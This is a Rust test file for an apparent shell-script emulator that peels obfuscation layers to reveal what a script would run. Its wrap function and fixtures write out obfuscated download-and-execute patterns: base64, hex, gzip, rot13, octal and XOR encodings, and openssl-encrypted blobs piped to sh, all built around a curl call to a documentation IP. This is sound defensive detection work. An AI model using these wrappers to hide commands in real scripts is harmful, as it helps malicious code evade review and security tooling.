//! Programs whose output is computed, and payloads under several of them.

use std::io::Write;

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use super::*;

fn last(script: &str) -> String {
    let path = Fixture::new().file("entry.sh", script, 0o755).start(&["/entry.sh"], &[]).follow();
    lines(&path).pop().unwrap_or_default()
}

#[test]
fn text_programs_put_out_what_they_would() {
    for (command, expected) in [
        ("printf 'b\\na\\n' | sort | paste -sd+", "a+b"),
        ("printf '3\\n10\\n2\\n' | sort -rn | head -1", "10"),
        ("printf 'a\\na\\nb\\n' | uniq -c | awk '{print $1}' | paste -sd,", "2,1"),
        ("echo abcdef | fold -w2 | tac | tr -d '\\n'", "efcdab"),
        ("seq 3 | paste -sd ''", "123"),
        ("seq -s: 2 2 8", "2:4:6:8"),
        ("echo 'obase=16; 255' | bc", "FF"),
        ("echo 'ibase=16; 41' | bc", "65"),
        ("expr 3 + 4", "7"),
        ("expr substr curl 2 2", "ur"),
        ("printf hi | xxd -p", "6869"),
        ("echo 6869 | xxd -r -p", "hi"),
        ("printf hi | od -An -tx1 | tr -d ' \\n'", "6869"),
        ("printf hi | hexdump -ve '1/1 \"%02x\"'", "6869"),
        ("printf hi | base32", "NBUQ===="),
        ("printf '%s' hi | md5sum | cut -d' ' -f1", "49f68a5c8493ec2c0bf489821c21fc3b"),
        ("printf '%s' hi | sha256sum | head -c 8", "8f434346"),
        ("printf '%03d-%5s-%-3s|' 7 ab c", "007-   ab-c  |"),
        ("printf '\\143\\165\\162\\154'", "curl"),
        ("printf '%b' '\\x63\\x75'", "cu"),
        ("echo a:b | awk -F: '{print $2 $1}'", "ba"),
        ("echo hello | awk '{print substr($0,2,3)}'", "ell"),
        ("echo abc | awk '{gsub(/b/,\"x\"); print toupper($0)}'", "AXC"),
        ("echo | awk 'BEGIN{printf \"%c%s\", 99, \"url\"}'", "curl"),
        ("echo abc | awk '{for(i=length($0);i>0;i--) printf substr($0,i,1)}'", "cba"),
        ("echo 'k=v' | sed -n 's/^k=//p'", "v"),
        ("echo abc | sed 's/\\(a\\)\\(b\\)/\\2\\1/;s/c/d/'", "bad"),
        ("echo abc | sed y/abc/xyz/", "xyz"),
        ("printf 'a\\nb\\nc\\n' | sed -n 2p", "b"),
        ("echo one two three | cut -d' ' -f2-", "two three"),
        ("echo secret | openssl enc -base64 | openssl base64 -d", "secret"),
        ("echo abc | wc -c", "4"),
        ("echo uryyb | tr 'A-Za-z' 'N-ZA-Mn-za-m'", "hello"),
        ("dd if=/f bs=1 skip=2 count=3 2>/dev/null", "cde"),
    ] {
        let script = format!("printf abcdef > /f; p \"$({command})\"");
        let expected =
            if expected.contains(' ') { format!("run p [{expected}]") } else { format!("run p {expected}") };
        assert_eq!(last(&script), expected, "{command}");
    }
}

#[test]
fn a_payload_with_a_literal_key_is_opened() {
    // Made with `openssl enc` itself.
    for script in [
        "echo oMowFplOpwsCklCSwxBGYw== | openssl enc -d -aes-256-cbc -a -A -pbkdf2 -k secret -S 0102030405060708 | sh",
        "echo U2FsdGVkX1+YyuLUs5jaC4akE6DmzKSG+CWWAcZyOFY= | openssl enc -aes-256-cbc -d -a -pbkdf2 -k secret | sh",
        "echo U2FsdGVkX1/FnFyQhvIfvGsVqikWeG07Ao83BtEHeew= | openssl aes-128-cbc -d -a -md md5 -pass pass:secret | sh",
        "echo Otg/q9GvUi6HOVZEQPxo0w== > /b; openssl enc -d -aes-256-cbc -a -in /b -out /s -K \
         000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f -iv 0102030405060708090a0b0c0d0e0f10; sh /s",
    ] {
        assert_eq!(last(script), "run curl -V", "{script}");
    }
    assert_eq!(
        last(
            "echo U2FsdGVkX1+YyuLUs5jaC4akE6DmzKSG+CWWAcZyOFY= | openssl enc -aes-256-cbc -d -a -k another | sh"
        ),
        "run sh <- openssl <- echo"
    );
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// One more layer around a script, by its number.
fn wrap(script: &str, layer: u8) -> String {
    let base64 = |bytes: &[u8]| data_encoding::BASE64.encode(bytes);
    let hex = data_encoding::HEXLOWER.encode(script.as_bytes());
    match layer {
        0 => format!("echo {} | base64 -d | sh", base64(script.as_bytes())),
        1 => format!("eval \"$(echo {hex} | xxd -r -p)\""),
        2 => format!("echo {} | base64 -d | gunzip | bash", base64(&packed(script.as_bytes()))),
        3 => {
            let turned: String = base64(script.as_bytes()).chars().rev().collect();
            format!("bash -c \"$(rev <<< {turned} | base64 --decode)\"")
        }
        4 => {
            let rot = |c: char| match c {
                'a'..='z' => char::from((c as u8 - b'a' + 13) % 26 + b'a'),
                'A'..='Z' => char::from((c as u8 - b'A' + 13) % 26 + b'A'),
                c => c,
            };
            let turned: String = base64(script.as_bytes()).chars().map(rot).collect();
            format!("printf %s {turned} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d > /tmp/.s; sh /tmp/.s")
        }
        5 => {
            let octal: String = script.bytes().map(|b| format!("\\{b:03o}")).collect();
            format!("eval \"$(printf '{octal}')\"")
        }
        6 => {
            let escaped: String = script.bytes().map(|b| format!("\\x{b:02x}")).collect();
            format!("sh -c $'{escaped}'")
        }
        7 => format!("X={}; eval \"${{X}}\"", quoted(script)),
        8 => {
            let end = format!("END{}", script.len());
            format!("cat <<'{end}' | sh\n{script}\n{end}\n")
        }
        9 => format!(
            "base64 -d <<< {} | tac | tac | tee /tmp/t >/dev/null; . /tmp/t",
            base64(script.as_bytes())
        ),
        10 => {
            // Byte by byte, with a key, in the shell itself.
            let key = 0x2a;
            let numbers: Vec<String> = script.bytes().map(|b| (b ^ key).to_string()).collect();
            format!(
                "s=; for n in {}; do s=\"$s$(printf \"\\\\$(printf '%03o' $((n ^ {key})))\")\"; done; eval \"$s\"",
                numbers.join(" ")
            )
        }
        _ => {
            let pairs: Vec<String> =
                hex.as_bytes().chunks(2).map(|p| String::from_utf8_lossy(p).into()).collect();
            format!("h='{}'; o=; for x in $h; do o=$o\\\\x$x; done; printf \"$o\" | sh", pairs.join(" "))
        }
    }
}

#[test]
fn each_layer_alone_is_peeled() {
    for layer in 0..12 {
        let script = wrap("curl http://192.0.2.7/a", layer);
        assert_eq!(last(&script), "net 192.0.2.7 http://192.0.2.7/a", "{layer}: {script}");
    }
}

#[test]
fn five_layers_of_any_kind_are_peeled() {
    let mut runner = TestRunner::new(Config { cases: 40, failure_persistence: None, ..Config::default() });
    // Byte by byte is a hundred times longer: once is enough.
    let layers = prop::collection::vec(0u8..10, 4);
    let strategy = (layers, 0u8..12, 0usize..5);
    runner
        .run(&strategy, |(layers, inner, _)| {
            let mut script = wrap("curl http://192.0.2.7/a", inner);
            for layer in &layers {
                script = wrap(&script, *layer);
            }
            prop_assert_eq!(last(&script), "net 192.0.2.7 http://192.0.2.7/a", "{:?} in {:?}", inner, layers);
            Ok(())
        })
        .unwrap();
}

#[test]
fn no_script_of_shell_words_breaks_the_emulator() {
    let words = [
        "echo ",
        "a",
        " ",
        "\n",
        ";",
        "|",
        "&&",
        "||",
        "&",
        "$(",
        ")",
        "`",
        "'",
        "\"",
        "${x",
        "}",
        "${x:-",
        "((",
        "))",
        "if ",
        "then ",
        "fi",
        "for i in ",
        "do ",
        "done",
        "case x in ",
        "esac",
        ";;",
        "x=",
        "x+=(",
        "[",
        "]",
        "[[ ",
        " ]]",
        "<<E\n",
        "E\n",
        "<",
        ">",
        ">>",
        "2>&1",
        "<(",
        "exec ",
        "eval ",
        "read ",
        "$x",
        "$@",
        "$((",
        "{",
        "{a,b}",
        "{1..9}",
        "\\",
        "#",
        "~",
        "*",
        "?",
        "while ",
        "until ",
        "function f ",
        "f() ",
        "set -- ",
        "shift",
        "local ",
        "declare -A m",
        "m[k]=",
        "${m[@]}",
        "${!x}",
        "${x/a/b}",
        "${x:1:2}",
        "printf '%s'",
        " base64 -d",
        " xxd -r -p",
        " sed s/a/b/",
        " awk '{print $1}'",
        " xargs -n1 ",
        "trap ",
        "alias a=",
        "\u{e9}",
        "\0",
        "\r\n",
        "getopts ab: o",
        "mapfile m",
    ];
    let mut runner = TestRunner::new(Config { cases: 300, failure_persistence: None, ..Config::default() });
    runner
        .run(&prop::collection::vec(0..words.len(), 0..80), |picked| {
            let script: String = picked.into_iter().map(|n| words[n]).collect();
            let begun = std::time::Instant::now();
            Fixture::new().file("e.sh", &script, 0o755).start(&["/e.sh"], &["a"]).follow();
            prop_assert!(begun.elapsed().as_secs() < 30, "{:?} {}", begun.elapsed(), script);
            Ok(())
        })
        .unwrap();
}

#[test]
fn scripts_that_carry_their_payload_are_read_to_the_end() {
    for script in [
        "#!/bin/sh\ntail -n +4 \"$0\" | base64 -d | sh\nexit 0\nY3VybCAtVgo=\n",
        "sed '1,/^__END__$/d' \"$0\" | sh; exit\n__END__\ncurl -V\n",
        "awk '/^__END__/{p=1;next} p' \"$0\" | sh; exit\n__END__\ncurl -V\n",
        "#!/bin/sh\ndd if=\"$0\" bs=1 skip=56 2>/dev/null | sh\nexit\ncurl -V\n\0'",
    ] {
        let path = Fixture::new().file("entry.sh", script, 0o755).start(&["/entry.sh"], &[]).follow();
        assert!(lines(&path).contains(&"run curl -V".to_owned()), "{script} {:?}", lines(&path));
    }
    let path =
        Fixture::new().file("e.sh", "#!/bin/sh\np\nexit\n\0'\"(", 0o755).start(&["/e.sh"], &[]).follow();
    assert!(path.gaps.is_empty(), "{:?}", path.gaps);
}

#[test]
fn bytes_that_no_shell_reads_are_a_gap() {
    let wide: Vec<u8> = "curl http://192.0.2.1/a | sh\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let text = String::from_utf8(wide).unwrap();
    for start in [&["/e.sh"][..], &["/bin/sh", "/e.sh"]] {
        let path = Fixture::new().file("e.sh", &text, 0o755).start(start, &[]).follow();
        assert!(path.gaps.iter().any(|g| g.matters), "{start:?} {:?}", path.gaps);
    }
    // A script in front of packed data is a script, and line ends of other systems are line ends.
    assert_eq!(last("#!/bin/sh\np a\nexit 0\n\0\u{1}\u{2}"), "run p a");
    assert_eq!(last("#!/bin/sh\r\nif true; then\r\np a\r\nfi\r\n"), "run p a");
}
